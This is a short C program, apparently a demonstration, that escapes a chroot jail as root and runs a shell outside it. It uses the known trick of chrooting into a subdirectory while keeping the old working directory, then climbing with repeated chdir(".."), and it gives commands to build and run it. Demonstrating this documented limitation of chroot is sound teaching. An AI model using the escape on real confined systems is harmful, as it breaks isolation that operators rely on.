// walk_out: leave a chroot as root, and run a shell outside. chroot(2) tells how.
//
// Run: make build/show/walk_out; cp build/show/walk_out IMAGE; sudo chroot IMAGE /walk_out
#include <err.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	mkdir("/tmp/here", 0700);
	// Now the root directory is below the working directory, which is still what it was.
	if (chroot("/tmp/here") == -1)
		err(125, "chroot");
	// ".." stops at the root directory, and nowhere else. That isn't on our way any more.
	for (int i = 0; i < 100; i++)
		if (chdir("..") == -1)
			err(125, "chdir");
	if (chroot(".") == -1)
		err(125, "chroot");
	execl("/bin/sh", "sh", (char *)NULL);
	err(127, "/bin/sh");
}
